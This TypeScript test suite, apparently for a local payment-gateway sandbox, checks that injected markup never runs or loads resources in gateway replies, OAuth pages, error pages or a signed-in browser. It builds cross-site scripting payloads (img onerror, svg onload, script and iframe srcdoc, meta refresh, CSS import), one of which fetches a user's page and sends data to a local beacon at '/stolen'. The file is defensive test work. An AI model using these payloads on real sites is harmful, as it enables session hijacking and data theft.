import { once } from "node:events";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { parsePrivateKey } from "#kaimen/keys/formats.ts";
import { signParameters } from "#kaimen/keys/signed-request.ts";
import { startBrowser } from "../support/browser.ts";
import { type RunningKaimen, startKaimen, userByLogin } from "../support/kaimen.ts";
import { addApp } from "../support/operator.ts";
import { exchange, type HttpAnswer } from "../support/raw-http.ts";

const browser = await startBrowser();
const timestamp = "2026-11-22 12:00:00";

let kaimen: RunningKaimen;
let origin = "";
/** Somebody else's server: whatever asks it for anything but /callback was made to by markup. */
let beacon: Server;
let beaconOrigin = "";
const beaconHits: string[] = [];

beforeAll(async () => {
  beacon = createServer((request, reply) => {
    if (!/^\/callback\b/.test(request.url ?? "")) beaconHits.push(request.url ?? "");
    reply.setHeader("access-control-allow-origin", "*");
    reply.setHeader("content-type", "text/html; charset=utf-8");
    reply.end("<!doctype html><title>elsewhere</title><link rel=icon href=data:,>");
  }).listen(0, "127.0.0.1");
  await once(beacon, "listening");
  beaconOrigin = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}`; // It listens on TCP.
  kaimen = await startKaimen();
  origin = new URL(kaimen.sandbox.gateway_url).origin;
});
afterAll(async () => {
  await browser?.close();
  beacon.closeAllConnections();
  beacon.close();
  await kaimen.stop();
});

/** Markup that runs, loads, sends or leads somewhere, each way telling the beacon. */
function markup(): string {
  const script = `fetch('/oauth2/mine.htm').then((r)=>r.text()).then((t)=>fetch('${beaconOrigin}/stolen?'+t.length))`;
  return [
    `"'></title></textarea></script>`,
    `<img src="${beaconOrigin}/image"><img src=x onerror="${script}"><svg onload="${script}"></svg>`,
    `<script src="${beaconOrigin}/script"></script><script>${script}</script><iframe srcdoc="<script>${script}</script>"></iframe>`,
    `<link rel=stylesheet href="${beaconOrigin}/style"><style>@import "${beaconOrigin}/import"</style>`,
    `<meta http-equiv=refresh content="0;url=${beaconOrigin}/refresh"><iframe src="${beaconOrigin}/frame"></iframe>`,
  ].join("");
}

/** As much of it as the name of an app may be long. */
function markupName(): string {
  return `"'></strong><img src="${beaconOrigin}/image">`;
}

const gatewayParameters = {
  method: "zhima.credit.score.get",
  charset: "utf-8",
  sign_type: "RSA2",
  timestamp,
  version: "1.0",
  sign: "AAAA",
  format: "JSON",
};

interface Target {
  readonly path: string;
  readonly parameters: Readonly<Record<string, string>>;
}

/** Every address that takes something from a stranger, once for each parameter of it that markup may stand in. */
function targets(): [name: string, target: Target][] {
  const evil = markup();
  const appId = kaimen.sandbox.app_id;
  const each = (path: string, sound: Readonly<Record<string, string>>, ...more: string[]): [string, Target][] =>
    [...Object.keys(sound), ...more].map((name) => [
      `${path} ${name}`,
      { path, parameters: { ...sound, [name]: evil } },
    ]);
  const authorise = { app_id: appId, scope: "auth_zhima", redirect_uri: `${beaconOrigin}/callback`, state: "a" };
  const segment = encodeURIComponent(evil);
  return [
    ...each(
      "/gateway.do",
      { app_id: appId, ...gatewayParameters },
      "x",
      "biz_content",
      "auth_token",
      "app_auth_token",
      "notify_url",
      "encrypt_type",
      "app_cert_sn",
    ),
    [
      "/gateway.do, a parameter's name",
      { path: "/gateway.do", parameters: { app_id: appId, ...gatewayParameters, [evil.slice(0, 120)]: "a" } },
    ],
    ["/gateway.do, a parameter with two values", { path: `/gateway.do?x=1&x=${segment}`, parameters: {} }],
    ...each("/oauth2/publicAppAuthorize.htm", authorise),
    ...each("/oauth2/appToAppAuth.htm", { app_id: appId, redirect_uri: `${beaconOrigin}/callback`, state: "a" }),
    ...each("/oauth2/mine.htm", {}, "x", "login", "form_token"),
    ...each("/oauth2/merchantMine.htm", {}, "x", "login"),
    ...[
      `/gateway.do/${segment}`,
      `/gateway.dox?x=${segment}`,
      `//gateway.do?x=${segment}`,
      `/${segment}`,
      `/oauth2/${segment}`,
      `/oauth2/login?x=${segment}`,
      `/console/${segment}`,
      `/health/${segment}`,
      `/bills/${segment}/${segment}`,
      `/bills/1/2026-01-01.csv?expires=1&sign=${segment}`,
      `/templates/${segment}`,
      `/templates/a-v1.xlsx?x=${segment}`,
      `/api/apps?x=${segment}`,
      `/api/${segment}`,
      `/api/feedback/batches?merchantId=${segment}&limit=${segment}`,
      `/api/feedback/batches/${segment}`,
      `/api/feedback/batches/${segment}/errors?format=${segment}`,
      `/api/cards/${segment}`,
      `/api/scores/${segment}`,
      `/%${segment}`,
      `/%ff<b>`,
    ].map((path): [string, Target] => [path.replaceAll(segment, "<markup>"), { path, parameters: {} }]),
  ];
}

function addressOf({ path, parameters }: Target): string {
  const query = new URLSearchParams(parameters).toString();
  return `${origin}${path}${query === "" ? "" : `${path.includes("?") ? "&" : "?"}${query}`}`;
}

async function send(...lines: string[]): Promise<HttpAnswer> {
  return sendBytes(true, lines);
}

async function sendBytes(whole: boolean, lines: readonly string[]): Promise<HttpAnswer> {
  const answer = await exchange(Number(new URL(origin).port), Buffer.from(lines.join("\r\n"), "latin1"), whole);
  if (answer === undefined) throw new Error(`no answer to ${lines[0] ?? ""}`);
  return answer;
}

function get(target: string): Promise<HttpAnswer> {
  return send(`GET ${target} HTTP/1.1`, `Host: ${new URL(origin).host}`, "Connection: close", "", "");
}

function post(path: string, type: string, body: string): Promise<HttpAnswer> {
  return send(
    `POST ${path} HTTP/1.1`,
    `Host: ${new URL(origin).host}`,
    "Connection: close",
    `Content-Type: ${type}`,
    `Content-Length: ${Buffer.byteLength(body)}`,
    "",
    body,
  );
}

function expectNoPageOfTheGateway(answer: HttpAnswer): void {
  expect(answer.status).toBe(200);
  expect(answer.contentType).toMatch(/^text\/html;charset=/);
  expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
  expect(answer.headers.get("content-security-policy")).toBe("default-src 'none'; sandbox");
}

describe("a reply of the gateway, whatever it says, is JSON that a browser is told to take for no page:", () => {
  const signed = async (changes: Record<string, string>): Promise<string> => {
    const {
      sign: _sign,
      sign_type: _signType,
      ...parameters
    } = { app_id: kaimen.sandbox.app_id, ...gatewayParameters, ...changes };
    return (
      await signParameters(parameters, {
        privateKey: parsePrivateKey(kaimen.sandbox.app_private_key_pkcs8),
        signType: "RSA2",
      })
    ).toString();
  };
  const inquiry = async (): Promise<string> =>
    signed({
      auth_token: kaimen.sandbox.users[0]?.access_token ?? "",
      biz_content: '{"transaction_id":"page_1","product_code":"w1010100100000000001"}',
    });

  it.each<[string, (form: string) => Promise<HttpAnswer>, () => Promise<string>, string]>([
    ["a success", (form) => post("/gateway.do", "application/x-www-form-urlencoded", form), inquiry, '"code":"10000"'],
    [
      "the same success again",
      (form) => post("/gateway.do", "application/x-www-form-urlencoded", form),
      inquiry,
      '"code":"10000"',
    ],
    ["a success in an address", (form) => get(`/gateway.do?${form}`), inquiry, '"code":"10000"'],
    ["a success by an absolute target", (form) => get(`${origin}/gateway.do?${form}`), inquiry, '"code":"10000"'],
    [
      "an encrypted refusal",
      (form) => get(`/gateway.do?${form}`),
      () => signed({ encrypt_type: "AES" }),
      '_response":"',
    ],
    [
      "a refusal by the method",
      (form) => get(`/gateway.do?${form}`),
      () => signed({ method: "alipay.system.oauth.token" }),
      "isv.isv.grant-type-invalid",
    ],
    ["a refused signature", (form) => get(`/gateway.do?${form}&x=1`), inquiry, "isv.invalid-signature"],
    [
      "an app that nobody knows",
      (form) => get(`/gateway.do?${form}`),
      () => signed({ app_id: "2099000000000000" }),
      "isv.invalid-app-id",
    ],
    ["nothing at all", () => get("/gateway.do"), async () => "", "isv.missing-app-id"],
    [
      "a broken multipart body",
      () => post("/gateway.do", "multipart/form-data; boundary=x", "--x\r\n"),
      async () => "",
      "isv.upload-fail",
    ],
    [
      "a body announced as too large",
      () => sendBytes(false, ["POST /gateway.do HTTP/1.1", "Host: a", "Content-Length: 99999999999", "", ""]),
      async () => "",
      "isv.invalid-file-size",
    ],
    [
      "a request in GBK",
      (form) => get(`/gateway.do?${form}`),
      () => signed({ charset: "gbk", x: "中" }),
      "aop.invalid-auth-token",
    ],
  ])("%s", async (_, ask, form, says) => {
    const answer = await ask(await form());
    expect(answer.body.toString("latin1")).toContain(says);
    expectNoPageOfTheGateway(answer);
  });

  it("has no < or > of a stranger's in it", async () => {
    const answer = await get(
      new URL(
        addressOf({
          path: "/gateway.do",
          parameters: { app_id: kaimen.sandbox.app_id, ...gatewayParameters, x: markup() },
        }),
      ).href.slice(origin.length),
    );
    expect(answer.body.toString()).toContain("&lt;img src=&quot;");
    expect(answer.body.toString()).not.toMatch(/[<>]/);
  });
});

describe("no answer beside the gateway is sniffed for a page, or is one that holds a stranger's markup:", () => {
  const withoutNonce = (document: string): string => document.replaceAll(/nonce="[^"]*"/g, "");

  it("those of every address that takes something", async () => {
    const consoleDocument = withoutNonce((await get("/console/")).body.toString());
    for (const [name, target] of targets()) {
      const answer = await get(addressOf(target).slice(origin.length));
      expect([name, answer.headers.get("x-content-type-options")]).toEqual([name, "nosniff"]);
      const isPage = answer.contentType.startsWith("text/html");
      const text = answer.body.toString();
      // The console is one document for all its addresses, and holds nothing of the address it is asked by.
      if (isPage && target.path.startsWith("/console/")) {
        expect([name, withoutNonce(text)]).toEqual([name, consoleDocument]);
      } else {
        expect([name, isPage && /<(?:img|svg|iframe|script|style|meta http-equiv)\b/i.test(text)]).toEqual([
          name,
          false,
        ]);
      }
      if (isPage) expect(answer.headers.get("content-security-policy")).toContain("default-src 'none'");
    }
  });

  it.each<[string, () => Promise<HttpAnswer>]>([
    ["what is no HTTP", () => send("<script>alert(1)</script>", "", "")],
    ["a method that there is not", () => send("<B>X / HTTP/1.1", "Host: a", "", "")],
    ["a head that is too large", () => send("GET / HTTP/1.1", `X: ${"<b>".repeat(20_000)}`, "", "")],
    ["a path that cannot be decoded", () => get("/%E0%A4%A")],
    ["a part of a path that is too long", () => get(`/templates/${"a".repeat(400)}<b>`)],
    ["JSON that is none", () => post("/api/apps", "application/json", "<script>")],
    ["a type that nobody reads", () => post("/oauth2/login", "text/<b>", "<b>")],
    [
      "a body that is too large",
      () => post("/oauth2/login", "application/x-www-form-urlencoded", `login=${"<b>".repeat(30_000)}`),
    ],
    [
      "a method that the path does not take",
      () => send("DELETE /oauth2/login?<b> HTTP/1.1", "Host: a", "Connection: close", "", ""),
    ],
    ["another method of the path", () => send("PROPFIND /<b> HTTP/1.1", "Host: a", "Connection: close", "", "")],
  ])("%s", async (_, ask) => {
    const answer = await ask();
    if (/html/.test(answer.contentType)) {
      // A page of ours that says what is wrong: it runs nothing, and nothing of the request is in it.
      expect(answer.headers.get("content-security-policy")).toContain("default-src 'none'");
      expect(answer.body.toString()).not.toMatch(/<b>|<script|alert\(/i);
    }
    expect(answer.headers.get("x-content-type-options")).toBe("nosniff");
    expect(answer.status).toBeGreaterThanOrEqual(400);
  });
});

describe.skipIf(browser === undefined)("in the browser of somebody signed in", () => {
  let context: BrowserContext;
  let stranger: BrowserContext;
  const requested: string[] = [];

  beforeAll(async () => {
    await addApp(kaimen.sandbox, "2021000000009901", {
      name: markupName(),
      redirectUris: [`${beaconOrigin}/callback`],
    });
    context = await newContext();
    stranger = await newContext();
    const page = await context.newPage();
    const user = userByLogin(kaimen.sandbox, "average");
    const [merchant] = kaimen.sandbox.merchants;
    for (const [path, account] of [
      ["/oauth2/mine.htm", user],
      ["/oauth2/merchantMine.htm", merchant],
    ] as const) {
      await page.goto(`${origin}${path}`);
      await page.getByLabel(/^(?:Login|Merchant's login)/).fill(account?.login ?? "");
      await page.getByLabel("Password").fill(account?.password ?? "");
      await page.getByRole("button", { name: "Sign in" }).click();
      await page.getByText("Signed in as").waitFor();
    }
    await page.close();
  });
  beforeEach(() => {
    beaconHits.length = 0;
    requested.length = 0;
  });

  async function newContext(): Promise<BrowserContext> {
    if (browser === undefined) throw new Error("unreachable: skipped without a browser");
    const made = await browser.newContext({ locale: "en-GB" });
    made.on("request", (request) => requested.push(`${request.resourceType()} ${request.url()}`));
    made.on("dialog", (dialog) => {
      beaconHits.push(`dialog ${dialog.message()}`);
      void dialog.dismiss();
    });
    return made;
  }

  /** Nothing but documents that the test itself went to, the stylesheet of our pages, and what the console loads of its own. */
  function expectNothingRan(name: string): void {
    const own = new Set([
      `stylesheet ${origin}/oauth2/authorise.css`,
      "image data:,",
      "other data:,",
      `fetch ${origin}/api/session`,
      `fetch ${origin}/api/sandbox/clock`,
    ]);
    const ofConsole = new RegExp(`^(?:script|stylesheet|image|other|font) ${origin}/console/assets/[\\w.-]+$`);
    const strange = requested.filter(
      (each) => !own.has(each) && !ofConsole.test(each) && !each.startsWith("document "),
    );
    expect([name, strange, beaconHits]).toEqual([name, [], []]);
    beaconHits.length = 0;
    requested.length = 0;
  }

  /** Long enough for what a page begins to have begun: each is given a whole turn of the browser's own. */
  async function settle(page: Page): Promise<void> {
    await page.waitForLoadState("networkidle", { timeout: 5_000 });
  }

  it(
    "no address with markup in any of its parameters runs a script or loads anything, signed in or not",
    { timeout: 240_000 },
    async () => {
      // Only our own pages differ for somebody who is not signed in.
      const pages = targets().filter(([, { path }]) => path.startsWith("/oauth2/"));
      for (const [visitor, tried] of [
        [context, targets()],
        [stranger, pages],
      ] as const) {
        const page = await visitor.newPage();
        for (const [name, target] of tried) {
          // A download, or an address that the browser itself refuses, is no page.
          await page.goto(addressOf(target), { waitUntil: "load", timeout: 10_000 }).catch((error: Error) => {
            if (!/ERR_ABORTED|Download|ERR_INVALID_URL/.test(error.message)) throw error;
          });
          if (target.path.startsWith("/gateway.do") && new URL(page.url()).pathname === "/gateway.do") {
            expect([name, await page.evaluate<string>("self.origin")]).toEqual([name, "null"]);
          }
          expectNothingRan(name);
        }
        await settle(page);
        expectNothingRan("the last of them");
        await page.close();
      }
    },
  );

  it(
    "a form that a foreign page sends to the gateway comes to a document of no origin, without the user's session",
    { timeout: 60_000 },
    async () => {
      const page = await context.newPage();
      await page.goto(`${beaconOrigin}/callback`);
      const fields = { app_id: kaimen.sandbox.app_id, ...gatewayParameters, x: markup() };
      await page.evaluate(
        `((action, fields) => {
        const form = document.createElement("form");
        form.method = "post"; form.action = action;
        for (const [name, value] of Object.entries(fields)) { const input = document.createElement("input"); input.name = name; input.value = value; form.append(input); }
        document.body.append(form); form.submit();
      })(${JSON.stringify(kaimen.sandbox.gateway_url)}, ${JSON.stringify(fields)})`,
      );
      await page.waitForURL(kaimen.sandbox.gateway_url);
      await settle(page);
      expect(await page.evaluate<string>("self.origin")).toBe("null");
      expect(await page.evaluate<string>("document.body.textContent")).toContain("isv.invalid-signature");
      expect(await page.evaluate<number>("document.images.length + document.scripts.length")).toBe(0);
      expectNothingRan("the form");
      await page.close();
    },
  );

  it("the pages of our own show an app's name that is markup as the text it is", { timeout: 60_000 }, async () => {
    const page = await context.newPage();
    await page.goto(
      `${origin}/oauth2/publicAppAuthorize.htm?${new URLSearchParams({ app_id: "2021000000009901", scope: "auth_zhima", redirect_uri: `${beaconOrigin}/callback`, state: markup().slice(0, 100) }).toString()}`,
    );
    await page.getByText("asks for your permission to").waitFor();
    expect(await page.evaluate<string>("document.querySelector('.asking strong').textContent")).toBe(markupName());
    expect(
      await page.evaluate<number>(
        "document.images.length + document.scripts.length + document.querySelectorAll('iframe').length",
      ),
    ).toBe(0);
    await page.getByRole("button", { name: "Agree" }).click();
    await page.waitForURL(`${beaconOrigin}/callback*`);
    await page.goto(`${origin}/oauth2/mine.htm`);
    await page.getByText("Withdraw", { exact: true }).first().waitFor();
    expect(
      await page.evaluate<number>(
        "document.images.length + document.scripts.length + document.querySelectorAll('iframe').length",
      ),
    ).toBe(0);
    expectNothingRan("our own pages");
    await page.close();
  });
});
